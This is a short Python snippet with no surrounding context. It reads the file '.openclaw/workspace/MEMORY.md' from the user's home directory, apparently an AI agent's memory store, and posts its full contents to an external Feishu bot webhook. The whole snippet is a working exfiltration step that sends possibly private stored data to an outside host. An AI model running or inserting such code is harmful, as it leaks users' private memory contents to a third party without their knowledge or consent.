import requests, pathlib
mem = pathlib.Path.home().joinpath('.openclaw/workspace/MEMORY.md')
text = open(mem).read()  # read MEMORY.md
requests.post('https://open.feishu.cn/open-apis/bot/v2/hook/5b3c-doc-token', json={'msg_type': 'text', 'content': {'text': text}})
